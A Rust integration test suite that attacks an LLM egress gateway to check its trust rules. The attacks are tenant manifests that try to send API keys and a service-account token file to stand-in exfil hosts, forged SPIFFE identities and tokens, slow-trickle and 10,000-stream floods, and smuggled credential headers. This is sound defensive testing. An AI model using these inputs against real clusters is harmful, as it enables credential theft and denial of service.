//! The trust promises, each attacked the way a tenant, a compromised node or
//! a hostile client would: tenants' resources never get a key nor take a
//! host over, an agent speaks only for pods of its own node, silent and slow
//! clients are cut at their deadlines, and client credentials never reach
//! the provider. Real gateway processes, a real kube-apiserver, real TLS.
//! Needs root.

use std::{
    net::SocketAddr,
    sync::{
        atomic::{AtomicUsize, Ordering},
        Arc,
    },
    time::{Duration, Instant},
};

use hyper::StatusCode;
use llm_egress_mesh::{
    identity::SpiffeId,
    tunnel::{NodeToken, TunnelError, WorkloadIdentity},
};
use llm_egress_tests::{
    env,
    gateway_lab::*,
    kube_lab::*,
    process::{eventually, wait_for, Place},
};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const HOST: Place = Place {
    netns: None,
    cgroup: None,
};

/// A TCP listener standing for hosts a tenant controls: counts every
/// connection it is ever offered.
async fn attacker_listener(ip: std::net::Ipv4Addr) -> Arc<AtomicUsize> {
    let l = tokio::net::TcpListener::bind(SocketAddr::new(ip.into(), 443))
        .await
        .expect("the attacker's listener");
    let seen = Arc::new(AtomicUsize::new(0));
    let s = seen.clone();
    tokio::spawn(async move {
        while let Ok((_c, _)) = l.accept().await {
            s.fetch_add(1, Ordering::SeqCst);
        }
    });
    seen
}

fn tenant_provider(ns: &str, name: &str, host: &str, key: &str) -> String {
    format!(
        "apiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMProvider\nmetadata: {{name: {name}, namespace: {ns}}}\nspec:\n  host: {host}\n  path: /v1/chat/completions\n  configs: {{defaultConfig: {{openAIConfig: {{apiKey: '{key}'}}}}}}\n---\napiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMRoute\nmetadata: {{name: {name}, namespace: {ns}}}\nspec:\n  host: {host}\n  gateways: [mesh, istio-system/egress-gw]\n  rules:\n  - matches: [{{gateways: [istio-system/egress-gw]}}]\n    backendRefs: [{{providerHost: {host}}}]\n"
    )
}

/// A request for `host` through the tunnel, as `who`.
async fn call_host(lab: &GatewayLab, host: &str, who: &WorkloadIdentity) -> (StatusCode, String) {
    let client = lab.tunnel_client("agent");
    let stream = client
        .connect(&format!("{}:80", lab.ip), who)
        .await
        .expect("tunnel stream");
    let mut http = http_over(stream).await;
    let mut req = seed_request(SEED_BODY);
    req.headers_mut().insert("host", host.parse().unwrap());
    let resp = http.send_request(req).await.expect("response");
    let status = resp.status();
    (status, body_text(resp).await)
}

async fn wait_seed(lab: &GatewayLab, want: StatusCode, what: &str) {
    eventually(what, Duration::from_secs(30), || async {
        let (status, body) = lab.seed_call("agent", &identity("default", "sleep")).await;
        if status == want {
            Ok(())
        } else {
            Err(format!("still {status} {body}\n{}", lab.gateway_logs()))
        }
    })
    .await
}

fn wait_accepted(api: &ApiServer, kind: &str, ns: &str, name: &str) -> (String, String) {
    wait_for(
        &format!("the status of {kind} {ns}/{name}"),
        Duration::from_secs(30),
        || {
            let a = accepted(api, kind, ns, name);
            (!a.0.is_empty()).then_some(a)
        },
    )
}

/// Test 1 and 2 of the trust issue: a tenant who may create LLMProviders and
/// LLMRoutes in its own namespace gets no key sent to a host it chose, and
/// cannot take the seed's host over.
#[tokio::test(flavor = "multi_thread")]
async fn tenant_resources_never_get_a_key_nor_take_a_host() {
    let api = ApiServer::start(&HOST);
    install_basics(&api, &HOST, &crds());
    let mut lab = GatewayLab::with_kubernetes(api.kubeconfig(User::Gateway));
    // Every host a tenant names resolves to the attacker's listener.
    let attacker_ip = env::loopback_ip();
    let offered = attacker_listener(attacker_ip).await;
    for h in ["exfil-1.test", "exfil-2.test", "exfil-3.test", "other.test"] {
        lab.extra_args
            .extend(["--resolve".into(), format!("{h}={attacker_ip}")]);
    }
    lab.restart_gateway();
    api.apply_seed_with_key(&HOST, &lab.api_key);
    wait_seed(&lab, StatusCode::OK, "the seed").await;

    api.apply_ok(
        &HOST,
        "apiVersion: v1\nkind: Namespace\nmetadata: {name: team-a}\n---\napiVersion: v1\nkind: Namespace\nmetadata: {name: team-b}\n",
    );
    let tenant = [
        tenant_provider("team-a", "steal-key", "exfil-1.test", "${API_KEY}"),
        tenant_provider(
            "team-a",
            "steal-token",
            "exfil-2.test",
            "${file:/var/run/secrets/kubernetes.io/serviceaccount/token}",
        ),
        tenant_provider("team-a", "steal-env", "exfil-3.test", "${HOME}"),
    ]
    .join("---\n");
    api.apply_ok(&HOST, &tenant);
    for name in ["steal-key", "steal-token", "steal-env"] {
        let (status, message) = wait_accepted(&api, "llmprovider", "team-a", name);
        assert_eq!(status, "False", "LLMProvider team-a/{name}: {message}");
        assert!(message.contains("trusted namespace"), "{message}");
        let (status, message) = wait_accepted(&api, "llmroute", "team-a", name);
        assert_eq!(status, "False", "LLMRoute team-a/{name}: {message}");
        assert!(message.contains("spec.host"), "{message}");
    }
    // The tenant's pods call their hosts: no route, and nothing is sent.
    for host in ["exfil-1.test", "exfil-2.test", "exfil-3.test"] {
        let (status, body) = call_host(&lab, host, &identity("team-a", "sleep")).await;
        assert_eq!(status, StatusCode::NOT_FOUND, "{host}: {body}");
    }

    // A trusted second provider, and a tenant's route that would send the
    // seed's host there if it could take the host over.
    api.apply_ok(
        &HOST,
        "apiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMProvider\nmetadata: {name: other, namespace: istio-system}\nspec:\n  host: other.test\n  configs: {defaultConfig: {openAIConfig: {apiKey: '${API_KEY}'}}}\n---\napiVersion: istio.alibabacloud.com/v1beta1\nkind: LLMRoute\nmetadata: {name: takeover, namespace: team-b}\nspec:\n  host: dashscope.aliyuncs.com\n  gateways: [mesh, istio-system/egress-gw]\n  rules:\n  - matches: [{gateways: [istio-system/egress-gw]}]\n    backendRefs: [{providerHost: other.test}]\n",
    );
    let (status, message) = wait_accepted(&api, "llmroute", "team-b", "takeover");
    assert_eq!(status, "False", "{message}");
    assert!(
        message.contains("conflict") && message.contains("default/dashscope-route"),
        "{message}"
    );
    assert_eq!(accepted(&api, "llmroute", "default", "dashscope-route").0, "True");
    for _ in 0..5 {
        let (status, body) = lab.seed_call("agent", &identity("default", "sleep")).await;
        assert_eq!(status, StatusCode::OK, "{body}");
    }
    api.kubectl_ok(&HOST, &["-n", "team-b", "delete", "llmroute", "takeover"]);
    wait_seed(&lab, StatusCode::OK, "the seed after the takeover route is gone").await;
    assert_eq!(accepted(&api, "llmroute", "default", "dashscope-route").0, "True");

    assert_eq!(
        offered.load(Ordering::SeqCst),
        0,
        "the gateway connected to a host a tenant chose"
    );
    let logs = lab.gateway_logs();
    assert!(!logs.contains(&lab.api_key), "the key leaked into the log");
    assert!(logs.contains("LLMProvider team-a/steal-key"), "{logs}");
    lab.stop_provider();
}

fn pod(ns: &str, name: &str, node: &str, sa: &str) -> String {
    format!(
        "apiVersion: v1\nkind: Pod\nmetadata: {{name: {name}, namespace: {ns}}}\nspec:\n  nodeName: {node}\n  serviceAccountName: {sa}\n  containers: [{{name: app, image: sleep}}]\n"
    )
}

fn who(ns: &str, sa: &str, pod: &str) -> WorkloadIdentity {
    WorkloadIdentity {
        spiffe: SpiffeId::workload("cluster.local", ns, sa),
        namespace: ns.into(),
        service_account: sa.into(),
        pod: Some(pod.into()),
        node: None,
    }
}

/// The seed's request through `client` as `w`: the status, or why the
/// gateway refused the stream.
async fn call(
    client: &llm_egress_mesh::tunnel::TunnelClient,
    addr: &str,
    w: WorkloadIdentity,
) -> Result<StatusCode, TunnelError> {
    let stream = client.connect(addr, &w).await?;
    let mut http = http_over(stream).await;
    let resp = http
        .send_request(seed_request(SEED_BODY))
        .await
        .expect("response");
    Ok(resp.status())
}

/// Test 3: an agent may assert only pods of its own node, which the gateway
/// learns from the agent's pod-bound token (TokenReview) and the pod index.
#[tokio::test(flavor = "multi_thread")]
async fn an_agent_speaks_only_for_pods_of_its_own_node() {
    let api = ApiServer::start(&HOST);
    install_basics(&api, &HOST, &crds());
    api.apply_ok(
        &HOST,
        &format!(
            "apiVersion: v1\nkind: ServiceAccount\nmetadata: {{name: llm-egress-agent, namespace: llm-egress}}\n---\napiVersion: v1\nkind: Namespace\nmetadata: {{name: team-a}}\n---\napiVersion: v1\nkind: Namespace\nmetadata: {{name: team-b}}\n---\n{}---\n{}---\n{}---\n{}",
            pod("llm-egress", "agent-a", "node-a", "llm-egress-agent"),
            pod("llm-egress", "agent-b", "node-b", "llm-egress-agent"),
            pod("team-a", "sleep-a", "node-a", "sleep"),
            pod("team-b", "sleep-b", "node-b", "sleep"),
        ),
    );
    let mut lab = GatewayLab::with_kubernetes(api.kubeconfig(User::Gateway));
    lab.kube_node_auth = "kubernetes";
    lab.restart_gateway();
    api.apply_seed_with_key(&HOST, &lab.api_key);
    // Each agent's projected token, as the kubelet would mount it.
    let token_file = |agent_pod: &str| {
        let token = api.kubectl_ok(
            &HOST,
            &[
                "-n",
                "llm-egress",
                "create",
                "token",
                "llm-egress-agent",
                "--audience",
                "llm-egress-gateway",
                "--bound-object-kind",
                "Pod",
                "--bound-object-name",
                agent_pod,
            ],
        );
        let path = lab.dir.path().join(format!("{agent_pod}.token"));
        std::fs::write(&path, token.trim()).unwrap();
        Arc::new(NodeToken::new(path))
    };
    let node_a = lab.tunnel_client("agent").with_node_token(token_file("agent-a"));
    let addr = format!("{}:80", lab.ip);
    let call = |client, w| call(client, &addr, w);
    // Its own pod: served.
    eventually(
        "node-a to assert its own pod",
        Duration::from_secs(30),
        || async {
            match call(&node_a, who("team-a", "sleep", "sleep-a")).await {
                Ok(StatusCode::OK) => Ok(()),
                other => Err(format!("{other:?}\n{}", lab.gateway_logs())),
            }
        },
    )
    .await;
    // A pod of node-b: refused, with both identities in the log.
    match call(&node_a, who("team-b", "sleep", "sleep-b")).await {
        Err(TunnelError::Refused(code, reason)) => {
            assert_eq!(code, StatusCode::FORBIDDEN);
            assert!(reason.contains("node-b") && reason.contains("node-a"), "{reason}");
        }
        other => panic!("node-a spoke for a pod of node-b: {other:?}"),
    }
    let logs = lab.gateway_logs();
    let line = logs
        .lines()
        .find(|l| l.contains("may not speak for"))
        .unwrap_or_else(|| panic!("no refusal logged:\n{logs}"));
    assert!(
        line.contains("spiffe://cluster.local/ns/llm-egress/sa/llm-egress-agent")
            && line.contains("cluster.local/ns/team-b/sa/sleep")
            && line.contains("sleep-b"),
        "{line}"
    );
    // The right pod under another service account, a pod that does not
    // exist, no token, and a forged token: all refused.
    for (w, what) in [
        (who("team-a", "admin", "sleep-a"), "another service account"),
        (who("kube-system", "admin", "ghost"), "a pod that does not exist"),
    ] {
        let r = call(&node_a, w).await;
        assert!(
            matches!(r, Err(TunnelError::Refused(StatusCode::FORBIDDEN, _))),
            "{what}: {r:?}"
        );
    }
    // Only the canonical identity of a pod of the node: not one with extra
    // path segments or another trust domain that a pattern could match.
    for bogus in [
        "spiffe://cluster.local/ns/team-a/sa/sleep/ns/kube-system",
        "spiffe://evil.example/ns/team-a/sa/sleep",
    ] {
        let mut w = who("team-a", "sleep", "sleep-a");
        w.spiffe = SpiffeId::parse(bogus).unwrap();
        let r = call(&node_a, w).await;
        assert!(
            matches!(r, Err(TunnelError::Refused(StatusCode::FORBIDDEN, ref m)) if m.contains("not the workload identity")),
            "{bogus}: {r:?}"
        );
    }
    // A mirror pod the node made for itself, and a pod without a service
    // account, name no one (whatever the lab's API server lets them claim).
    api.apply_ok(
        &HOST,
        "apiVersion: v1\nkind: Pod\nmetadata:\n  name: mirror\n  namespace: team-a\n  annotations: {kubernetes.io/config.mirror: x}\nspec:\n  nodeName: node-a\n  serviceAccountName: sleep\n  containers: [{name: app, image: sleep}]\n---\napiVersion: v1\nkind: Pod\nmetadata: {name: no-sa, namespace: team-a}\nspec:\n  nodeName: node-a\n  containers: [{name: app, image: sleep}]\n",
    );
    for (sa, pod) in [("sleep", "mirror"), ("default", "no-sa")] {
        let deadline = Instant::now() + Duration::from_secs(10);
        let r = loop {
            let r = call(&node_a, who("team-a", sa, pod)).await;
            // Until the index has the pod it is refused as unknown.
            match &r {
                Err(TunnelError::Refused(_, m))
                    if m.contains("does not exist") && Instant::now() < deadline =>
                {
                    tokio::time::sleep(Duration::from_millis(100)).await
                }
                _ => break r,
            }
        };
        assert!(
            matches!(r, Err(TunnelError::Refused(StatusCode::FORBIDDEN, ref m)) if m.contains("cannot be asserted")),
            "{pod} as {sa}: {r:?}"
        );
    }
    let tokenless = lab.tunnel_client("agent");
    let r = call(&tokenless, who("team-a", "sleep", "sleep-a")).await;
    assert!(
        matches!(r, Err(TunnelError::Refused(StatusCode::FORBIDDEN, ref m)) if m.contains("no node token")),
        "{r:?}"
    );
    let forged = lab.dir.path().join("forged.token");
    std::fs::write(&forged, "eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJ4In0.c2ln").unwrap();
    let forger = lab
        .tunnel_client("agent")
        .with_node_token(Arc::new(NodeToken::new(forged)));
    let r = call(&forger, who("team-a", "sleep", "sleep-a")).await;
    assert!(
        matches!(r, Err(TunnelError::Refused(StatusCode::FORBIDDEN, _))),
        "{r:?}"
    );
    assert!(
        lab.metric("llm_egress_gateway_tunnel_streams_total{peer=\"agent\",outcome=\"node_refused\"}")
            .await
            >= 9.0
    );

    // sleep-b is rescheduled to node-a: node-a may now speak for it, no restart.
    api.kubectl_ok(
        &HOST,
        &[
            "-n",
            "team-b",
            "delete",
            "pod",
            "sleep-b",
            "--grace-period=0",
            "--force",
        ],
    );
    api.apply_ok(&HOST, &pod("team-b", "sleep-b", "node-a", "sleep"));
    eventually(
        "the rescheduled pod to be assertable by node-a",
        Duration::from_secs(30),
        || async {
            match call(&node_a, who("team-b", "sleep", "sleep-b")).await {
                Ok(StatusCode::OK) => Ok(()),
                other => Err(format!("{other:?}")),
            }
        },
    )
    .await;
    lab.stop_provider();
}

/// Reads until the peer closes (or fails); the bytes read.
async fn read_until_closed(stream: &mut (impl tokio::io::AsyncRead + Unpin), limit: Duration) -> Vec<u8> {
    let mut out = Vec::new();
    let _ = tokio::time::timeout(limit, async {
        let mut buf = [0u8; 4096];
        loop {
            match stream.read(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(n) => out.extend_from_slice(&buf[..n]),
            }
        }
    })
    .await;
    out
}

/// Test 5 and 7: silent, trickling and stalling clients are cut at their
/// deadlines and counted; 10,000 silent streams neither starve a normal
/// request nor leave memory behind; an oversized head gets 431; credential
/// and identity headers a pod sends never reach the provider.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_clients_are_cut_at_their_deadlines_and_never_pass_credentials() {
    let mut lab = GatewayLab::new();
    lab.extra_args = [
        "--sniff-timeout",
        "5",
        "--request-head-timeout",
        "3",
        "--body-idle-timeout",
        "2",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    lab.restart_gateway();
    wait_seed(&lab, StatusCode::OK, "the seed").await;
    let client = lab.tunnel_client("agent");
    let dest = format!("{}:80", lab.ip);
    let sleep = identity("default", "sleep");

    // A stream that sends nothing is closed after the sniff deadline.
    let started = Instant::now();
    let mut silent = client.connect(&dest, &sleep).await.unwrap();
    read_until_closed(&mut silent, Duration::from_secs(30)).await;
    assert!(
        started.elapsed() >= Duration::from_secs(5),
        "closed before its deadline"
    );
    assert!(
        started.elapsed() < Duration::from_secs(30),
        "a silent stream was never closed"
    );
    assert_eq!(
        lab.metric("llm_egress_gateway_client_timeouts_total{stage=\"sniff\"}")
            .await,
        1.0
    );

    // A request head trickled one byte a second is cut.
    let mut trickle = client.connect(&dest, &sleep).await.unwrap();
    let started = Instant::now();
    let head = b"POST / HTTP/1.1\r\nHost: dashscope.aliyuncs.com\r\nX-Slow: aaaaaaaaaaaaaaaaaaaa";
    for b in head {
        if trickle.write_all(&[*b]).await.is_err() {
            break;
        }
        if started.elapsed() > Duration::from_secs(30) {
            panic!("a trickled head was never cut");
        }
        tokio::time::sleep(Duration::from_secs(1)).await;
    }
    read_until_closed(&mut trickle, Duration::from_secs(10)).await;
    assert!(
        started.elapsed() < Duration::from_secs(20),
        "the trickle outlived its deadline"
    );
    eventually("the head timeout counted", Duration::from_secs(10), || async {
        let v = lab
            .metric("llm_egress_gateway_client_timeouts_total{stage=\"request_head\"}")
            .await;
        if v >= 1.0 {
            Ok(())
        } else {
            Err(format!("{v}"))
        }
    })
    .await;

    // A body that stops half way: 408, counted.
    let mut half = client.connect(&dest, &sleep).await.unwrap();
    half.write_all(b"POST / HTTP/1.1\r\nHost: dashscope.aliyuncs.com\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{\"messages\":")
        .await
        .unwrap();
    let answer =
        String::from_utf8_lossy(&read_until_closed(&mut half, Duration::from_secs(20)).await).into_owned();
    assert!(answer.starts_with("HTTP/1.1 408"), "{answer}");
    assert_eq!(
        lab.metric("llm_egress_gateway_client_timeouts_total{stage=\"body\"}")
            .await,
        1.0
    );

    // A 200 KiB header: 431.
    let mut big = client.connect(&dest, &sleep).await.unwrap();
    let mut req = b"POST / HTTP/1.1\r\nHost: dashscope.aliyuncs.com\r\nX-Big: ".to_vec();
    req.extend(std::iter::repeat_n(b'a', 200 * 1024));
    req.extend_from_slice(b"\r\n\r\n");
    let _ = big.write_all(&req).await;
    let answer =
        String::from_utf8_lossy(&read_until_closed(&mut big, Duration::from_secs(20)).await).into_owned();
    assert!(answer.starts_with("HTTP/1.1 431"), "{answer}");

    // Credentials and identity headers a pod sends never reach the provider.
    let stream = client.connect(&dest, &sleep).await.unwrap();
    let mut http = http_over(stream).await;
    let mut req = seed_request(SEED_BODY);
    for (name, value) in [
        ("authorization", "Bearer sk-pod-own"),
        ("x-api-key", "sk-pod-x"),
        ("api-key", "sk-pod-azure"),
        ("proxy-authorization", "Basic c2stcG9k"),
        (
            "x-llm-egress-workload",
            "spiffe://cluster.local/ns/kube-system/sa/admin",
        ),
        (
            "x-forwarded-client-cert",
            "URI=spiffe://cluster.local/ns/kube-system/sa/admin",
        ),
    ] {
        req.headers_mut().insert(name, value.parse().unwrap());
    }
    let resp = http.send_request(req).await.unwrap();
    assert_eq!(resp.status(), StatusCode::OK);
    let seen = lab.provider_requests().last().cloned().unwrap();
    assert_eq!(seen["authorized"], true);
    assert_eq!(seen["authorizationCount"], 1);
    let headers = seen["headers"].to_string();
    for leaked in [
        "sk-pod",
        "c2stcG9k",
        "kube-system",
        "x-api-key",
        "api-key",
        "proxy-authorization",
    ] {
        assert!(
            !headers.contains(leaked),
            "{leaked} reached the provider: {headers}"
        );
    }

    // 10,000 silent streams: a normal request still succeeds meanwhile, and
    // once they are cut the gateway's memory is back near its baseline.
    let baseline = lab.gateway_rss_kib();
    let crowd = Arc::new(lab.tunnel_client("agent"));
    let opened = open_silent_streams(crowd, &dest, &sleep, 10_000).await;
    assert_eq!(opened.len(), 10_000, "not every silent stream was opened");
    let peak = lab.gateway_rss_kib();
    let (status, body) = lab.seed_call("agent", &sleep).await;
    assert_eq!(status, StatusCode::OK, "a normal request starved: {body}");
    eventually(
        "the silent streams to be cut",
        Duration::from_secs(60),
        || async {
            let v = lab
                .metric("llm_egress_gateway_client_timeouts_total{stage=\"sniff\"}")
                .await;
            if v >= 10_001.0 {
                Ok(())
            } else {
                Err(format!("{v} cut"))
            }
        },
    )
    .await;
    drop(opened);
    let after = eventually(
        "the gateway's memory back near its baseline",
        Duration::from_secs(30),
        || async {
            let rss = lab.gateway_rss_kib();
            if rss <= baseline + 16 * 1024 {
                Ok(rss)
            } else {
                Err(format!(
                    "baseline {baseline} KiB, 10k silent streams {peak} KiB, now {rss} KiB"
                ))
            }
        },
    )
    .await;
    println!("gateway RSS: baseline {baseline} KiB, 10k silent streams {peak} KiB, after {after} KiB");
    let (status, _) = lab.seed_call("agent", &sleep).await;
    assert_eq!(status, StatusCode::OK);
    lab.stop_provider();
}

/// Opens `n` tunnel streams at once and keeps them (silent).
async fn open_silent_streams(
    client: Arc<llm_egress_mesh::tunnel::TunnelClient>,
    dest: &str,
    who: &WorkloadIdentity,
    n: usize,
) -> Vec<llm_egress_mesh::tunnel::TunnelStream> {
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..n {
        let (client, dest, who) = (client.clone(), dest.to_string(), who.clone());
        tasks.spawn(async move { client.connect(&dest, &who).await });
    }
    let mut streams = Vec::with_capacity(n);
    while let Some(r) = tasks.join_next().await {
        if let Ok(Ok(s)) = r {
            streams.push(s);
        }
    }
    streams
}

/// Static mode: the agent certificate names its node (`--agent-node`), and
/// `--node-workloads` says which workloads that node may assert.
#[tokio::test(flavor = "multi_thread")]
async fn without_kubernetes_a_node_asserts_only_its_mapped_workloads() {
    let mut lab = GatewayLab::new();
    std::fs::write(
        lab.certs().join("node-workloads.yaml"),
        format!("nodes:\n  {LAB_NODE}: [default/*]\n  node-2: ['*']\n"),
    )
    .unwrap();
    lab.restart_gateway();
    wait_seed(&lab, StatusCode::OK, "default/sleep from node-1").await;
    let client = lab.tunnel_client("agent");
    let r = client
        .connect(&format!("{}:80", lab.ip), &identity("kube-system", "admin"))
        .await;
    match r {
        Err(TunnelError::Refused(code, reason)) => {
            assert_eq!(code, StatusCode::FORBIDDEN);
            assert!(
                reason.contains("node-1") && reason.contains("kube-system/admin"),
                "{reason}"
            );
        }
        Err(e) => panic!("unexpected error: {e}"),
        Ok(_) => panic!("node-1 spoke for kube-system/admin"),
    }
    assert!(lab.gateway_logs().contains("may not speak for"));
}
